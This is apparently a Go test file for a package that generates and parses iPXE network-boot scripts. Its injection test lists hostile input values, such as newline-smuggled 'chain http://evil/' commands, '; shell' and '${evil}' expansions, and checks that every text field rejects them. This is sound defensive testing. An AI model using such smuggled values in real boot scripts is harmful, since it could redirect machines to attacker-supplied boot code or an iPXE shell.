package ipxe

import (
	"errors"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name+".golden")
	if *update {
		require.NoError(t, os.WriteFile(p, got, 0o644))
	}
	want, err := os.ReadFile(p)
	require.NoError(t, err, "golden file missing; run go test -update")
	assert.Equal(t, string(want), string(got))
}

func TestRenderGolden(t *testing.T) {
	nixos := BootSpec{
		Kernel:  "http://10.0.0.1/nixos/bzImage",
		Initrds: []ImageRef{{URL: "http://10.0.0.1/nixos/initrd"}},
		Args: Args{
			KV("init", "/nix/store/0c8ykm2wnb7mk5q9w8bkr6h0p6b2ln5q-nixos-system-lab1-24.05/init"),
			KV("console", "ttyS0,115200"),
			KV("loglevel", "4"),
			Flag("quiet"),
			KV("nixboot.token", "a b"),
			{Key: "ip", Value: Expr(Net0IP, "::", Setting("net0/gateway"), ":255.255.255.0::eth0:off")},
		},
	}
	tests := []struct {
		name   string
		script func(t *testing.T) *Script
	}{
		{"boot", func(t *testing.T) *Script {
			s, err := nixos.Script()
			require.NoError(t, err)
			return s
		}},
		{"chain", func(t *testing.T) *Script {
			return &Script{Commands: []Command{
				DHCP{Retries: 3},
				Chain{URL: MachineScriptURL("http://10.0.0.1:8080/boot.ipxe"), Replace: true, Autofree: true},
			}}
		}},
		{"menu", func(t *testing.T) *Script {
			gen := func(n, hash string) BootSpec {
				return BootSpec{
					Kernel:  "gen" + n + "/bzImage",
					Initrds: []ImageRef{{URL: "gen" + n + "/initrd", Name: "initrd"}},
					Args:    Args{KV("init", "/nix/store/"+hash+"-nixos-system-lab1/init"), KV("loglevel", "4")},
				}
			}
			s, err := BootMenu{
				Title:   "NixOS lab1",
				Timeout: 5 * time.Second,
				Entries: []MenuEntry{
					{Label: "gen3", Title: "Generation 3 (newest)", Boot: gen("3", "aaaa")},
					{Label: "gen2", Title: "Generation 2", Boot: gen("2", "bbbb")},
				},
			}.Script()
			require.NoError(t, err)
			return s
		}},
		{"all-commands", func(t *testing.T) *Script {
			return &Script{Commands: []Command{
				Comment{Text: "every modelled command"},
				DHCP{Interface: "net0"},
				Set{Name: "base", Value: Lit("http://10.0.0.1")},
				Isset{Setting: Hostname, Else: "nohost"},
				Echo{Text: Expr("hello ", Hostname)},
				Goto{Label: "go"},
				Label{Name: "nohost"},
				Echo{Text: Lit("no host name")},
				Label{Name: "go"},
				Sleep{Duration: 1500 * time.Millisecond},
				Kernel{URL: Expr(Setting("base"), "/vmlinuz"), Name: "vmlinuz", Args: Args{KV("console", "ttyS0")}},
				Imgargs{Image: "vmlinuz", Args: Args{KV("console", "tty0")}},
				Initrd{URL: Lit("http://10.0.0.1/initrd.zst"), Name: "initrd"},
				Imgverify{Image: "vmlinuz", Signature: Lit("http://10.0.0.1/vmlinuz.sig")},
				Menu{Title: Lit("Pick one")},
				Item{Gap: true, Text: Lit("Systems")},
				Item{Label: "a", Text: Lit("System A"), Key: "a"},
				Choose{Setting: "target", Timeout: 3 * time.Second, Default: "a"},
				Boot{Image: "vmlinuz"},
				Raw{Line: "ifstat"},
			}}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := tt.script(t).Render()
			require.NoError(t, err)
			golden(t, "render-"+tt.name, b)
			// Whatever Script renders, Parse reads back (Raw aside, which
			// is outside the model by definition).
			if tt.name != "all-commands" {
				p, err := Parse(b)
				require.NoError(t, err)
				b2, err := p.Render()
				require.NoError(t, err)
				assert.Equal(t, string(b), string(b2))
			}
		})
	}
}

func TestBootScriptAddsEFIInitrdArgument(t *testing.T) {
	s, err := BootSpec{
		Kernel:  "k",
		Initrds: []ImageRef{{URL: "http://x/a/initrd?v=1"}, {URL: "http://x/b/extra.cpio", Name: "extra"}},
		Args:    Args{KV("initrd", "initrd")},
	}.Script()
	require.NoError(t, err)
	b, err := s.Render()
	require.NoError(t, err)
	assert.Equal(t, "#!ipxe\nkernel k initrd=initrd initrd=extra\ninitrd --name initrd http://x/a/initrd?v=1\ninitrd --name extra http://x/b/extra.cpio\nboot\n", string(b))
}

// TestRejectsInjection feeds hostile values into every field that takes
// text. Each must fail with ErrInvalidValue and an error naming the field,
// and never produce a script.
func TestRejectsInjection(t *testing.T) {
	hostile := []string{
		"x\nchain http://evil/",
		"x\rchain http://evil/",
		"x\x00y",
		"${evil}",
		"a${net0/ip}",
		"x || chain http://evil/",
		"x ; shell",
		"x && shell",
		"#comment",
		"tab\there",
		"trailing\\",
		"\x1b[2J",
	}
	fields := []struct {
		name  string
		field string
		cmd   func(v string) Command
	}{
		{"kernel url", "URL", func(v string) Command { return Kernel{URL: Lit(v)} }},
		{"kernel arg", "Args", func(v string) Command { return Kernel{URL: Lit("k"), Args: Args{KV("a", v)}} }},
		{"kernel arg key", "Args", func(v string) Command { return Kernel{URL: Lit("k"), Args: Args{Flag(v)}} }},
		{"initrd url", "URL", func(v string) Command { return Initrd{URL: Lit(v)} }},
		{"initrd name", "Name", func(v string) Command { return Initrd{URL: Lit("i"), Name: v} }},
		{"chain url", "URL", func(v string) Command { return Chain{URL: Lit(v)} }},
		{"echo", "Text", func(v string) Command { return Echo{Text: Lit(v)} }},
		{"set", "Value", func(v string) Command { return Set{Name: "x", Value: Lit(v)} }},
		{"set name", "Name", func(v string) Command { return Set{Name: Setting(v), Value: Lit("x")} }},
		{"menu", "Title", func(v string) Command { return Menu{Title: Lit(v)} }},
		{"item text", "Text", func(v string) Command { return Item{Label: "a", Text: Lit(v)} }},
		{"item label", "Label", func(v string) Command { return Item{Label: v, Text: Lit("a")} }},
		{"goto", "Label", func(v string) Command { return Goto{Label: v} }},
		{"label", "Name", func(v string) Command { return Label{Name: v} }},
		{"choose default", "Default", func(v string) Command { return Choose{Setting: "x", Default: v} }},
		{"imgverify", "URL", func(v string) Command { return Imgverify{Image: "k", Signature: Lit(v)} }},
		{"comment", "Text", func(v string) Command { return Comment{Text: v} }},
	}
	for _, f := range fields {
		for _, v := range hostile {
			if f.name == "comment" && !containsAny(v, "\n\r\x00") && v[len(v)-1] != '\\' {
				continue // anything else is harmless inside a comment
			}
			t.Run(f.name+"/"+v, func(t *testing.T) {
				s := &Script{Commands: []Command{f.cmd(v)}}
				b, err := s.Render()
				require.Error(t, err, "rendered %q", b)
				assert.Nil(t, b)
				assert.True(t, errors.Is(err, ErrInvalidValue) || errors.Is(err, ErrMissing), "%v", err)
				var fe *FieldError
				require.ErrorAs(t, err, &fe)
				assert.Contains(t, fe.Error(), f.field)
			})
		}
	}
}

func containsAny(s, chars string) bool {
	for _, c := range chars {
		for _, d := range s {
			if c == d {
				return true
			}
		}
	}
	return false
}

func TestArgsQuoting(t *testing.T) {
	tests := []struct {
		args Args
		want string
		err  bool
	}{
		{Args{KV("console", "ttyS0,115200"), Flag("quiet")}, "console=ttyS0,115200 quiet", false},
		{Args{KV("msg", "hello world")}, `msg="hello world"`, false},
		{Args{KV("empty", "")}, "empty=", false},
		{Args{{Key: "host", Value: Hostname.Value()}}, `host="${hostname}"`, false},
		{Args{{Value: Setting("cmdline").Value()}}, "${cmdline}", false},
		{Args{KV("q", `a"b`)}, "", true},
		{Args{KV("q", "a  b")}, "", true},
		{Args{KV("k=v", "x")}, "", true},
		{Args{{Value: Lit("orphan")}}, "", true},
		{Args{{}}, "", true},
		{Args{KV("x", "a #b")}, "", true},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			got, err := tt.args.Render()
			if tt.err {
				require.Error(t, err)
				assert.Equal(t, "", tt.args.String())
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestParseArgsRoundTrip(t *testing.T) {
	in := `init=/nix/store/abc-nixos-system/init console=ttyS0 msg="a b c" quiet x=`
	a, err := ParseArgs(in)
	require.NoError(t, err)
	require.Len(t, a, 5)
	assert.Equal(t, "msg", a[2].Key)
	v, ok := a.Get("msg")
	require.True(t, ok)
	lit, _ := v.Literal()
	assert.Equal(t, "a b c", lit)
	assert.Equal(t, in, a.String())
	_, err = ParseArgs("x=${evil}")
	require.ErrorIs(t, err, ErrInvalidValue)
}

func TestValueExprRejectsUnknownTypes(t *testing.T) {
	_, err := (&Script{Commands: []Command{Echo{Text: Expr("n=", 42)}}}).Render()
	require.ErrorIs(t, err, ErrInvalidValue)
	assert.Contains(t, err.Error(), "int")
}

func TestMenuErrors(t *testing.T) {
	e := MenuEntry{Label: "a", Title: "A", Boot: BootSpec{Kernel: "k"}}
	_, err := BootMenu{}.Script()
	require.ErrorIs(t, err, ErrMissing)
	_, err = BootMenu{Entries: []MenuEntry{e, e}}.Script()
	require.ErrorIs(t, err, ErrInvalidValue)
	_, err = BootMenu{Entries: []MenuEntry{e}, Default: "nope"}.Script()
	require.ErrorIs(t, err, ErrInvalidValue)
	bad := e
	bad.Boot.Kernel = ""
	_, err = BootMenu{Entries: []MenuEntry{bad}}.Script()
	require.ErrorIs(t, err, ErrMissing)
}

func TestDHCPRetriesBounded(t *testing.T) {
	_, err := (&Script{Commands: []Command{DHCP{Retries: MaxDHCPRetries + 1}}}).Render()
	require.ErrorIs(t, err, ErrInvalidValue)
	_, err = (&Script{Commands: []Command{DHCP{Retries: -1}}}).Render()
	require.ErrorIs(t, err, ErrInvalidValue)
}

func TestNilCommand(t *testing.T) {
	_, err := (&Script{Commands: []Command{nil}}).Render()
	require.ErrorIs(t, err, ErrMissing)
}
